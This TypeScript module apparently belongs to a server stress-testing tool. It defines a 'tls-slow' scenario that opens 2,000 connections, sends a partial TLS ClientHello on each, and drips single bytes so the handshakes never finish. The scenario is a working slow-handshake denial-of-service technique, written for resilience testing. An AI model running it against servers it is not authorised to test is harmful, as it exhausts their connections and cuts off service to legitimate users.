// TLS handshakes that are sent byte by byte and never completed.
import pMap from 'p-map';
import type { Abuse } from '../abuse.ts';
import { dialBare } from '../load/dial.ts';
import type { Line } from '../load/dial.ts';
import { CLIENT_HELLO_BEGUN } from './client-hello.ts';

const AT_ONCE = 50;
const BYTE_MS = 250;

export const tlsSlow: Abuse = {
  id: 'tls-slow',
  what: 'TLS handshakes that are never completed',
  size: 2_000,
  unit: 'connections',
  setup: { tls: true },
  round: async ({ target, size, enough }) => {
    const lines: Line[] = [];
    await pMap(
      Array(size).keys(),
      async () => {
        const line = dialBare(target);
        lines.push(line);
        await line.opened;
        line.socket.write(CLIENT_HELLO_BEGUN);
      },
      { concurrency: AT_ONCE },
    );
    const more = setInterval(() => {
      for (const { socket } of lines) if (socket.writable) socket.write('\x01');
    }, BYTE_MS);
    await enough;
    clearInterval(more);
    for (const { socket } of lines) socket.destroy();
    await Promise.all(lines.map(({ ended }) => ended));
    return { connections: size };
  },
};
